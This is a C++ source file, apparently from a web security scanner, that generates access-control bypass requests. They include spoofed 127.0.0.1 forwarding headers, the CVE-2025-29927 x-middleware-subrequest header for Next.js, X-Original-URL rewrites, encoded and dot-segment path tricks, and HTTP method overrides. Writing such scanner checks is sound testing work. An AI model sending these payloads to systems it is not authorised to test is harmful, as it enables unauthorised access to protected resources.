#include "checks/access/tamperings.h"

#include "checks/access/postrule.h"
#include "checks/actors/routeaddress.h"
#include "checks/net/requesttarget.h"
#include "checks/net/urlhost.h"
#include "models/routes/pathtemplate.h"

#include <QCoreApplication>
#include <QRegularExpression>
#include <QUrlQuery>

#include <algorithm>

namespace cockpit {

using namespace Qt::StringLiterals;

namespace {

struct Text
{
    Q_DECLARE_TR_FUNCTIONS(Tamperings)
};

// The path is sent as it is written here.
QUrl withPath(const QUrl &url, const QString &path)
{
    QByteArray address = url.scheme().toLatin1() + "://" + url.authority(QUrl::FullyEncoded).toLatin1() + path.toUtf8();
    if (url.hasQuery())
        address += '?' + url.query(QUrl::FullyEncoded).toLatin1();
    return QUrl::fromEncoded(address);
}

class Ways
{
public:
    explicit Ways(const BypassTarget &target) : m_target(target), m_path(target.url.path(QUrl::FullyEncoded)) {}

    const QString &path() const { return m_path; }

    void addPath(const QString &code, const QString &label, const QString &path)
    {
        if (path == m_path)
            return;
        ActiveRequest request = plain();
        request.url = withPath(m_target.url, path);
        add(code, label, request);
    }

    // The path goes out letter for letter; the address is the nearest that QUrl can hold.
    void addTarget(const QString &code, const QString &label, const QString &path)
    {
        ActiveRequest request = plain();
        request.url = withPath(m_target.url, path);
        QByteArray target = path.toUtf8();
        if (m_target.url.hasQuery())
            target += '?' + m_target.url.query(QUrl::FullyEncoded).toLatin1();
        request.headers = {{kTargetField, target}};
        add(code, label, request);
    }

    void addHeaders(const QString &code, const QString &label, const std::vector<Header> &headers)
    {
        ActiveRequest request = plain();
        request.headers = headers;
        add(code, label, request);
    }

    void add(const QString &code, const QString &label, const ActiveRequest &request,
             const std::optional<ActiveRequest> &ordinary = {})
    {
        m_all.push_back({code, label, request, ordinary});
    }

    ActiveRequest plain() const { return requestAt(m_target.route, m_target.url); }

    std::vector<BypassWay> take() { return std::move(m_all); }

private:
    const BypassTarget &m_target;
    const QString m_path;
    std::vector<BypassWay> m_all;
};

// RFC 7239 and the fields that came before it: a sender that says to be the machine itself.
std::vector<Header> insideHeaders()
{
    std::vector<Header> headers{{"Forwarded", "for=127.0.0.1"}};
    for (const char *name : {"X-Forwarded-For", "X-Real-IP", "X-Client-IP", "Client-IP", "True-Client-IP",
                             "X-Originating-IP", "CF-Connecting-IP"})
        headers.push_back({name, "127.0.0.1"});
    return headers;
}

void addFields(Ways &ways, const BypassTarget &target, const QString &publicPath)
{
    ways.addHeaders(u"internal_address"_s, Text::tr("header fields that name the server itself as the sender"),
                    insideHeaders());
    // CVE-2025-29927: Next.js skips its middleware for requests that it believes to be its own. Five times since 13.2.
    for (const QByteArray &name : {QByteArray("middleware"), QByteArray("src/middleware")}) {
        const QByteArray five = name + ':' + name + ':' + name + ':' + name + ':' + name;
        ways.addHeaders(u"middleware_header"_s, Text::tr("the header field x-middleware-subrequest"),
                        {{"x-middleware-subrequest", five}});
    }
    ActiveRequest hidden = ways.plain();
    hidden.url = withPath(target.url, publicPath);
    hidden.url.setQuery(u"lc=1"_s); // not what a shared cache has kept of the public page
    ActiveRequest ordinary = hidden;
    ordinary.url.setQuery(u"lc=2"_s);
    const QByteArray wanted = target.url.toEncoded(QUrl::RemoveScheme | QUrl::RemoveAuthority);
    hidden.headers = {{"X-Original-URL", wanted}, {"X-Rewrite-URL", wanted}};
    ways.add(u"original_url"_s, Text::tr("a public address, and the private one in X-Original-URL"), hidden, ordinary);
}

// A record by an id that was seen in use is somebody's: a product that does not know the field would do to it what its
// own POST is for. A test record alone is asked for so (overridewrites.h, and the ways of access.tenant-isolation).
bool mayBePosted(const BypassTarget &target, const std::vector<Route> &routes)
{
    if (hasHoles(target.route.path))
        return false;
    const PostRule rule = postRule(target.route, routes);
    return rule == PostRule::Allowed || (rule == PostRule::Unlisted && target.deniesPost);
}

void addMethods(Ways &ways)
{
    ActiveRequest unknown = ways.plain();
    unknown.method = "LCGET"; // no server writes by a method that it has never heard of
    ways.add(u"unknown_method"_s, Text::tr("a method that does not exist"), unknown);
    ActiveRequest head = ways.plain();
    head.method = "HEAD";
    ways.add(u"head_request"_s, Text::tr("HEAD instead of GET"), head);
}

void addSpellings(Ways &ways)
{
    const QString &path = ways.path();
    const qsizetype last = path.lastIndexOf(u'/');
    const QString before = path.left(last);
    const QString name = path.mid(last + 1);
    ways.addPath(u"trailing_slash"_s, Text::tr("a slash at the end of the address"), path + u'/');
    ways.addPath(u"other_case"_s, Text::tr("the address in capital letters"), path.toUpper());
    ways.addPath(u"double_slash"_s, Text::tr("a double slash in the address"), before + "//"_L1 + name);
    ways.addPath(u"semicolon"_s, Text::tr("\";x\" at the end of the address"), path + ";x"_L1);
    // One slash always stays: an address begins with it.
    if (last > 0)
        ways.addPath(u"encoded_slash"_s, Text::tr("a slash of the address written as %2F"), before + "%2F"_L1 + name);
    ways.addPath(u"json_suffix"_s, Text::tr("\".json\" at the end of the address"), path + ".json"_L1);
    const QString dot = u"dot_segment"_s;
    ways.addPath(dot, Text::tr("\"/./\" in the address"), before + "/./"_L1 + name);
    // RFC 3986 section 5.2.4: who compares texts sees a public address, who follows the dots the private one.
    ways.addPath(dot, Text::tr("\"/lc/../\" in the address"), before + "/lc/../"_L1 + name);
}

// Dots that only whoever decodes sees (RFC 3986 section 6.2.2.2), and a dot segment with a parameter, which servers
// for Java take off after a proxy in front of them has read the path.
void addHiddenDots(Ways &ways)
{
    const qsizetype last = ways.path().lastIndexOf(u'/');
    const QString before = ways.path().left(last);
    const QString name = ways.path().mid(last + 1);
    const QString code = u"encoded_dot"_s;
    ways.addTarget(code, Text::tr("\"/%2e/\" in the address"), before + "/%2e/"_L1 + name);
    ways.addTarget(code, Text::tr("\"/lc/%2e%2e/\" in the address"), before + "/lc/%2e%2e/"_L1 + name);
    ways.addPath(u"dot_parameter"_s, Text::tr("\"/lc/..;/\" in the address"), before + "/lc/..;/"_L1 + name);
    ways.addTarget(u"encoded_slash"_s, Text::tr("\"/lc/..%2f\" in the address"), before + "/lc/..%2f"_L1 + name);
}

void addVersions(Ways &ways)
{
    const QString label = Text::tr("another version in the address");
    static const QRegularExpression version(u"^(.*/)v([0-9]{1,2})(/.*)$"_s);
    const auto match = version.match(ways.path());
    if (match.hasMatch()) {
        const int number = match.captured(2).toInt();
        for (const int other : {number - 1, number + 1}) {
            if (other >= 0)
                ways.addPath(u"version_alias"_s, label,
                             match.captured(1) + u'v' + QString::number(other) + match.captured(3));
        }
        ways.addPath(u"version_alias"_s, label, match.captured(1).chopped(1) + match.captured(3));
        return;
    }
    if (!ways.path().startsWith("/api/"_L1))
        return;
    const QString rest = ways.path().mid(4);
    for (const QString &prefix : {u"/api/v1"_s, u"/api/v0"_s, u"/v1"_s, u"/api/internal"_s})
        ways.addPath(u"version_alias"_s, label, prefix + rest);
}

} // namespace

std::vector<BypassWay> postTamperings(const BypassTarget &target, const std::vector<Route> &routes)
{
    if (!mayBePosted(target, routes))
        return {};
    Ways ways(target);
    ActiveRequest request = ways.plain();
    request.headers = overrideHeaders(request.method);
    request.url = withOverrideQuery(request.url, request.method);
    request.method = "POST";
    request.writes = true;
    ways.add(u"method_override"_s, Text::tr("POST, and the real method in X-HTTP-Method-Override"), request);
    // Where frameworks for pages look for it (Rails, Laravel), which rules for JSON never read. It is the same fault.
    ActiveRequest form = ways.plain();
    form.headers = {{"Content-Type", "application/x-www-form-urlencoded"}};
    form.body = "_method=" + form.method;
    form.method = "POST";
    form.writes = true;
    ways.add(u"method_override"_s, Text::tr("POST as a form, and the real method in its field _method"), form);
    return ways.take();
}

std::vector<BypassWay> tamperings(const BypassTarget &target, const QString &publicPath)
{
    Ways ways(target);
    addFields(ways, target, publicPath);
    addMethods(ways);
    addSpellings(ways);
    addVersions(ways);
    addHiddenDots(ways);
    return ways.take();
}

std::vector<Header> overrideHeaders(const QByteArray &method)
{
    return {{"X-HTTP-Method-Override", method}, {"X-HTTP-Method", method}, {"X-Method-Override", method}};
}

QUrl withOverrideQuery(QUrl url, const QByteArray &method)
{
    QUrlQuery query(url);
    query.addQueryItem(u"_method"_s, QString::fromLatin1(method));
    url.setQuery(query);
    return url;
}

} // namespace cockpit
